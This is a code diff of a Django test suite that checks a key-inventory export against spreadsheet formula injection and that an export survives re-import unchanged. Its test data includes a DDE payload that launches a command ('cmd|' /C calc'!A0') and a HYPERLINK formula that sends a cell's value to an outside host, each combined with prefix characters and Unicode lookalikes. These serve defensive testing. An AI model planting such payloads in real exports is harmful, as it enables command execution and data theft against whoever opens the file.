@@ -21,7 +21,7 @@ from tests.people import sign_in
 
 pytestmark = pytest.mark.django_db
 DOOR = "/inventory/key/export/"
-SIGNS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", " ="]
+SIGNS = ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20", " ="]
 BODIES = ["cmd|' /C calc'!A0", 'HYPERLINK("https://example.org?x="&A1,"a")', "1+1", "SUM(A1:A9)", "x"]
 CELLS = [sign + body for sign in SIGNS for body in BODIES]
 
@@ -71,7 +71,7 @@ def test_no_cell_of_a_spreadsheet_begins_a_formula():
         cell
         for row in rows
         for cell in row
-        if cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\0", "＝", "＋", "－", "＠"))
+        if cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\0", "\uff1d", "\uff0b", "\uff0d", "\uff20"))
     ]
     assert armed == []
     book = openpyxl.load_workbook(io.BytesIO(bytes_of("xlsx"))).active
@@ -79,12 +79,18 @@ def test_no_cell_of_a_spreadsheet_begins_a_formula():
 
 
 def test_an_export_imported_again_changes_nothing():
-    make_key(name="a", owner=make_owner("ann", "ann@example.org"), algorithm="AES-256-GCM", storage_location="vault/x")
+    make_key(
+        name="a",
+        owner=make_owner("ann", "ann@example.org"),
+        algorithm="AES-256-GCM",
+        size_bits=256,
+        storage_medium="other",
+        storage_location="shelf",
+    )
     make_key(name="b", created_on=None, last_rotated_on=None)
     plan = services.plan_import(content=bytes_of("csv"), now=NOW)
-    assert (plan.refused, plan.new, plan.changed) == ([], [], []) or (
-        [list(said) for said in (plan.refused, plan.new, plan.changed)] == [[], [], []]
-    )
+    assert (list(plan.refused), list(plan.new)) == ([], [])
+    assert [change.fields for change in plan.changed] == []
 
 
 def test_it_is_read_by_pages_and_each_key_comes_once(monkeypatch, django_assert_num_queries):
